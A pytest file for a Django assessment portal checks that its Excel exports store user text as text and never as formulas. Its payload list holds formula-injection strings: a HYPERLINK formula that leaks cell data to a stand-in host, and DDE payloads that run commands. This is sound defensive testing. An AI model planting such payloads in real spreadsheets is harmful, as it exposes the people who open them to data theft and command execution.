"""Every Excel file the portal produces keeps user text from running as a formula.

Text a user typed (a note, an official's name, a decision number, even a unit's name) that starts
with = + - or @ must reach the workbook as text, with a leading apostrophe, never as a formula:
the score sheet, the officials export and the province workbook.
"""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessment.models import ProvinceDecision, Status
from tests.assessment.factories import make_assessment, make_world_assessment

PAYLOADS = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
DANGEROUS = ("=", "+", "-", "@")


def cells_with(content: bytes, text: str) -> list:
    workbook = load_workbook(io.BytesIO(content))  # formulas kept as formulas, not computed
    return [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]


def assert_all_neutralised(content: bytes, payloads: list[str]) -> None:
    for payload in payloads:
        found = cells_with(content, payload[1:])
        assert found, f"{payload!r} is not in the workbook at all"
        for cell in found:
            where = f"{cell.parent.title}!{cell.coordinate}"
            assert cell.data_type == "s", f"{where} is not a text cell: {cell.value!r}"
            # Text marked quote-prefixed stays text even when edited; otherwise it must not look like a formula.
            assert cell.quotePrefix or not cell.value.startswith(DANGEROUS), f"{where} could run: {cell.value!r}"


def test_the_score_sheet_keeps_notes_as_text(client, world):
    notes = {n: payload for n, payload in enumerate(PAYLOADS, start=1)}
    assessment = make_world_assessment(world, scores=15, notes=notes)
    client.force_login(world.commune_user)
    response = client.get(reverse("assessment:excel-download", args=[2021, world.commune.code]))
    assert response.status_code == 200
    assert assessment.scores.filter(note=PAYLOADS[0]).exists()
    assert_all_neutralised(response.content, PAYLOADS)


def test_the_officials_export_keeps_names_notes_and_phones_as_text(client, world):
    from tests.personnel.factories import servant

    phone = "=2+5"  # a phone number field holds 20 characters
    servant(world.commune, full_name=PAYLOADS[0], note=PAYLOADS[1], phone=phone)
    servant(world.commune, full_name="Lò Văn A", professional_field=PAYLOADS[2], note=PAYLOADS[3])
    client.force_login(world.commune_user)
    response = client.get(reverse("personnel:official-export", args=[world.commune.code]))
    assert response.status_code == 200
    assert_all_neutralised(
        b"".join(response.streaming_content) if response.streaming else response.content, [*PAYLOADS, phone]
    )


@pytest.fixture
def hostile_names(world):
    """Units and a decision whose names a careless writer would turn into formulas."""
    world.outsider_commune.name = PAYLOADS[0]
    world.outsider_commune.save()
    world.other_district.name = PAYLOADS[3]
    world.other_district.save()
    for commune in (world.commune, world.sibling, world.outsider_commune):
        make_assessment(commune, 2021, status=Status.FINALIZED, scores=18)
    assessment = world.sibling.assessments.get()
    ProvinceDecision.objects.create(
        assessment=assessment,
        kind=ProvinceDecision.Kind.REMINDER,
        number=PAYLOADS[1],
        date=date(2021, 12, 28),
        reason=PAYLOADS[2],
        recorded_by=world.province_user,
    )
    return world


def test_the_province_workbook_keeps_unit_names_and_decisions_as_text(hostile_names):
    from reports.models import JobStatus, ReportKind
    from reports.services.jobs import report_job_start

    w = hostile_names
    job = report_job_start(
        actor=w.province_user, kind=ReportKind.PROVINCE_WORKBOOK_XLSX, year=2021, province=w.province, district=None
    )
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED, job.error
    with job.file.open("rb") as handle:
        content = handle.read()
    assert_all_neutralised(content, [PAYLOADS[0], PAYLOADS[3]])
    # The decision number is written after its kind ("Nhắc nhở +cmd..."), so it cannot start a cell.
    decisions = cells_with(content, PAYLOADS[1][1:])
    assert decisions and all(c.data_type == "s" for c in decisions)
    assert all(c.quotePrefix or not c.value.startswith(DANGEROUS) for c in decisions)
